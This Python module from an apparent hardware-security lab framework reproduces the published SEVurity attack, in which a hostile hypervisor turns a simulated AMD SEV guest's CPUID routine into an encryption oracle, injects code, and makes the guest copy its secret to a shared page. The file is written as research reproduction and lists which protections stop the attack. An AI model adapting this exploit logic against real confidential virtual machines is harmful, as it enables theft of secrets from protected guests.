"""A10: the victim's own CPUID becomes an encryption oracle, and then its code is the adversary's."""

from __future__ import annotations

import struct

from cbit.attacks.lab.assemble import assemble
from cbit.attacks.lab.attack import attack
from cbit.attacks.lab.corpus import Corpus, difference, xor
from cbit.attacks.lab.guest import CODE, CPUID, HLT, NPF, SECRET, SHARED, VIEW, Program
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import Log
from cbit.attacks.lab.outcome import SUCCEEDS, Mode, does_not_apply, stopped_by, succeeds
from cbit.attacks.lab.scene import Facts, Scene
from cbit.attacks.lab.stand import Setup, Stand
from cbit.attacks.lab.tools import Thwarted, gpa_of
from cbit.attacks.power import Power
from cbit.crypto.entropy import SeededEntropy
from cbit.crypto.memory_modes import Mode as Engine
from cbit.spec.address import BLOCK, MIB, PAGE

BUFFER, ROUTINE, KERNEL = 0x30000, 0x12300, 0x200000

#: As kernels do at start-up: asks the processor who it is and stores the sixteen bytes of the answer.
BOOT = f"""
    mov rdi, {BUFFER:#x}
    jmp routine
.org {ROUTINE - CODE:#x}
routine:
    cpuid
    mov [rdi], eax
    mov [rdi + 4], ebx
    mov [rdi + 8], ecx
    mov [rdi + 12], edx
.org {ROUTINE - CODE + BLOCK:#x}, 0x90
    xor eax, eax
    hlt
    jmp routine
"""
#: Begins the block behind the routine's first: back to its start.
LOOP = b"\xeb" + struct.pack("b", -BLOCK - 2)
PAYLOAD = f"""
    mov esi, {SECRET:#x}
    mov edi, {VIEW + SHARED + PAGE:#x}
    mov ecx, 8
    rep movsq
    hlt
"""


def booting(stand: Stand) -> Scene:
    """Start a victim that never touches its secret, beside a large public image."""
    secret = stand.entropy.draw(64)
    kernel = SeededEntropy("a kernel that everybody has").draw(stand.number("corpus_mib") * MIB)
    program = Program(BOOT, data=((KERNEL, kernel),), size=KERNEL + len(kernel))
    guest = stand.guest(program, secret=secret)
    facts = Facts({"kernel_at": KERNEL, "kernel": kernel, "routine": ROUTINE, "buffer": BUFFER})
    return Scene((secret,), facts, guest, planted=guest.peek(SECRET, 64) == secret)


@attack(
    title="SEVurity: code injected through the victim's CPUID",
    experiment="E6",
    paper="Wilke et al., SEVurity, S&P 2020 (attacks.md A10, case 2)",
    holds={
        Power.MAP_MEMORY,
        Power.FLUSH_CACHES,
        Power.EDIT_NESTED_TABLES,
        Power.TAKE_EXITS,
        Power.EMULATE,
        Power.CLIENT,
    },
    expect={
        Mode.NONE: does_not_apply("nothing is encrypted: the host writes the victim's code"),
        Mode.SME: succeeds("the tweak constants are known"),
        Mode.SEV: succeeds("the tweak constants are known, and there is no integrity"),
        Mode.SEV_ES: SUCCEEDS,
        Mode.SEV_SNP: stopped_by("the RMP refuses the host's write"),
    },
    defences={"fresh": "Zen 2 and later: the constants are others at each boot, and not the published ones"},
    victim=booting,
    setup=Setup(memory=32 * MIB),
    setups={"fresh": Setup(profile="rome", engine=Engine.XEX, memory=32 * MIB)},
    parameters={"corpus_mib": 8},
)
def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Turn a routine of the victim's into an encryption oracle, and write code with what the oracle gives.

    1. Forbid execution; the nested fault tells when the routine's page is about to run.
    2. Replace the block behind "store 16 bytes of CPUID's answer" by one of the known image's that begins,
       once it is moved there, with a jump back: two chosen bytes are enough.
    3. Now each CPUID stores sixteen bytes of the adversary's choice under the victim's key, and the
       ciphertext is read at the next one: one exit for each block.
    4. Corrected by the difference of the tweaks, that ciphertext is valid anywhere.  It is put over the jump,
       and the victim copies its secret to the shared page.
    """
    routine, buffer = facts.number("routine"), facts.number("buffer")
    corpus = Corpus(hands.memory, facts.number("kernel_at"), facts.data("kernel"), xe=False)
    _wait_for(hands, routine & -PAGE, log)
    behind = hands.memory.spa(routine + BLOCK)
    found = corpus.find(LOOP, behind)
    if found is None:
        raise Thwarted("no block of the known plaintext gives the wanted jump")
    hands.caches.write_back()
    hands.memory.write(behind, corpus.ciphertext_for(found, behind))
    hands.caches.write_back()
    log.step(
        f"the kernel's block at {corpus.gpa(found):#x} is moved: it begins with {LOOP.hex()}, a jump back"
    )
    code = assemble(PAYLOAD, routine + BLOCK)
    code += bytes(-len(code) % BLOCK)
    oracle, exits = hands.memory.spa(buffer), 0
    hands.victim.until(CPUID)
    for at in range(0, len(code), BLOCK):
        target = behind + at
        wanted = xor(code[at : at + BLOCK], difference(oracle, target))
        for name, word in zip(("rax", "rbx", "rcx", "rdx"), struct.unpack("<4I", wanted), strict=True):
            hands.emulation[name] = word
        hands.victim.skip(2)
        hands.victim.until(CPUID)  # without the jump there is no second CPUID
        exits += 1
        hands.caches.write_back()
        cells = xor(hands.memory.read(oracle, BLOCK), difference(oracle, target))
        log.step(f"block {at // BLOCK}: ciphertext of the adversary's code for its place", cells)
        hands.memory.write(target, cells)
        if at == 0:
            first = cells
            hands.memory.write(target, corpus.ciphertext_for(found, target))  # the loop is still wanted
        hands.caches.write_back()
    hands.memory.write(behind, first)
    hands.caches.write_back()
    hands.victim.skip(2)
    hands.victim.until(HLT)
    loot = hands.client.answer(64)
    log.step("the victim has run the injected code", loot)
    blocks = len(code) // BLOCK
    log.figure(
        "exits for each 16-byte block",
        exits / blocks,
        published="1 (CPUID oracle: 10^6 blocks in 37.5 s)",
        source="SEVurity §V-B (attacks.md A10 step 6)",
    )
    log.figure(
        "chosen bytes in a block that is only moved",
        2,
        "bytes",
        published="2, expected limit 3",
        source="SEVurity §IV-C (attacks.md A10)",
    )
    return loot


def _wait_for(hands: Hands, page: int, log: Log) -> None:
    """Let the victim run until it is about to execute a page."""
    hands.tables.forbid_execution(*(gpa for gpa in hands.tables.pages() if gpa < KERNEL))
    faults = 0
    while True:
        exit = hands.victim.until(NPF)
        faults += 1
        gpa = gpa_of(exit.info_2) & -PAGE
        hands.tables.home(gpa)
        if gpa == page:
            break
    log.step(f"{faults} nested faults later the victim is about to execute {page:#x}")
